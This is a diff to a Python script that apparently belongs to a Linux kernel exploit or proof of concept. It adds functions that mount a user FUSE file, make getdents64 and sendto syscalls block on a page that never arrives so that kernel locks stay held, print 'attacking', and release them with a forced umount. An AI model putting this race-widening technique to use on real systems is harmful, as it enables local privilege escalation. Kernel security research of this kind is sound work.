@@ -24,8 +24,10 @@ MNT, DEVICE, FILE = HERE + "/mnt", HERE + "/fuse", HERE + "/mnt/f"
 MAX_FDS = 253
 # When keepalive reads no more of our messages.
 SEND_TIMEOUT = 0.5
+# umount2(2)
+MNT_FORCE = 1
 # System calls of x86-64.
-WRITEV, EPOLL_CTL = 20, 233
+WRITEV, SENDTO, GETDENTS64, EPOLL_CTL = 20, 44, 217, 233
 libc = ctypes.CDLL(None, use_errno=True)
 
 
@@ -283,6 +285,39 @@ def held_pipe(number):
     if os.fork() == 0:
         while True:
             os.writev(int(number), [bytes(fuse.PAGE), page])
+    rest()
+
+
+def locked_directory():
+    """Reads a directory into a page of our file, which never comes: meanwhile nobody makes or removes a file there."""
+    fuse.mount_as_user(fuse.READ, MNT, DEVICE)
+    page = mmap.mmap(os.open(FILE, os.O_RDONLY), fuse.PAGE, flags=mmap.MAP_PRIVATE, prot=mmap.PROT_READ | mmap.PROT_WRITE)
+    sd.say("READY=1")
+    begin()
+    folder, memory = os.open(HERE + "/free", os.O_RDONLY), ctypes.addressof(ctypes.c_char.from_buffer(page))
+    read = lambda: libc.syscall(GETDENTS64, folder, ctypes.c_void_p(memory), fuse.PAGE)
+    threading.Thread(target=read, daemon=True).start()
+    until_thread_hangs(GETDENTS64)
+    hold_until("end")
+
+
+def locked_socket(number):
+    """Sends a page of our file, which never comes, as a part of a datagram: meanwhile nobody changes the socket."""
+    fuse.mount_as_user(fuse.READ, MNT, DEVICE)
+    page = mmap.mmap(os.open(FILE, os.O_RDONLY), fuse.PAGE, prot=mmap.PROT_READ)
+    sd.say("READY=1")
+    begin()
+    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, fileno=int(number))
+    threading.Thread(target=sender.sendto, args=(page, socket.MSG_MORE, ("127.0.0.1", 9)), daemon=True).start()
+    until_thread_hangs(SENDTO)
+    hold_until("end")
+
+
+def hold_until(suffix):
+    """Holds a lock until there is another file. umount(2): MNT_FORCE ends the requests."""
+    sd.show("attacking")
+    begin(suffix)
+    libc.umount2(MNT.encode(), MNT_FORCE)
     rest()
 
 
